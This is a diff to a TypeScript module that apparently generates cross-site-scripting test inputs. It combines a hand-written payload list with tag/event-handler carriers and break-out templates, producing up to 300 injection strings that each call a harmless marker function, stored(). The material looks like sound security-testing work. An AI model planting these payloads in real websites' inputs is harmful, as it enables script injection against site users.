@@ -1,5 +1,5 @@
-/** Texts that run `stored()` where they are taken for a page, an address or a template; the short ones fit any field. */
-export const SCRIPTS: readonly string[] = [
+/** Written one by one; the first ones are enough for a run of every day. */
+const BY_HAND: readonly string[] = [
   '<img src=x onerror=stored()>',
   '<svg onload=stored()>',
   '<script>stored()</script>',
@@ -31,6 +31,64 @@ export const SCRIPTS: readonly string[] = [
   '<meta http-equiv=refresh content="0;url=javascript:stored()">',
   '<img src=1 srcset=x onerror=stored()//',
 ]
+
+/** What runs something by itself or when it is touched, and the handler that does. */
+const CARRIERS: readonly (readonly [tag: string, handler: string])[] = [
+  ['img src=x', 'onerror'],
+  ['image src=x', 'onerror'],
+  ['svg', 'onload'],
+  ['svg><set attributeName=x', 'onbegin'],
+  ['svg><animate attributeName=x dur=1s', 'onbegin'],
+  ['body', 'onpageshow'],
+  ['body', 'onhashchange'],
+  ['input autofocus', 'onfocus'],
+  ['input type=image src=x', 'onerror'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['button autofocus', 'onfocus'],
+  ['p tabindex=1 autofocus', 'onfocus'],
+  ['details open', 'ontoggle'],
+  ['video src=x', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['video><source src=x', 'onerror'],
+  ['object data=x', 'onerror'],
+  ['embed src=x', 'onload'],
+  ['iframe', 'onload'],
+  ['style', 'onload'],
+  ['script src=x', 'onerror'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['marquee', 'onstart'],
+  ['a href=# autofocus', 'onfocus'],
+  ['a href=#', 'onclick'],
+  ['p', 'onpointerover'],
+  ['div style=position:fixed;inset:0', 'onmousemove'],
+]
+
+type Writing = (tag: string, handler: string) => string
+
+/** How such a tag is written, and what it breaks out of first. */
+const WRITINGS: readonly Writing[] = [
+  (tag, handler) => `<${tag} ${handler}=stored()>`,
+  (tag, handler) => `<${tag} ${handler}="stored()">`,
+  (tag, handler) => `<${tag} ${handler}='stored()'>`,
+  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=stored()>`,
+  (tag, handler) => `<${tag} ${handler} = stored() x>`,
+  (tag, handler) => `<${tag} ${handler}=stored()//`,
+  (tag, handler) => `"><${tag} ${handler}=stored()>`,
+  (tag, handler) => `'><${tag} ${handler}=stored()>`,
+  (tag, handler) => `--><${tag} ${handler}=stored()>`,
+  (tag, handler) => `</title></textarea></style></script><${tag} ${handler}=stored()>`,
+]
+
+const MOST = 300
+
+/** Texts that run `stored()` where they are taken for a page, an address or a template; the short ones fit any field. */
+export const SCRIPTS: readonly string[] = [
+  ...new Set([
+    ...BY_HAND,
+    ...WRITINGS.flatMap((write) => CARRIERS.map(([tag, handler]) => write(tag, handler))),
+  ]),
+].slice(0, MOST)
 
 /** What a stored text is known by wherever it is shown. */
 export const MARK = 'stored()'
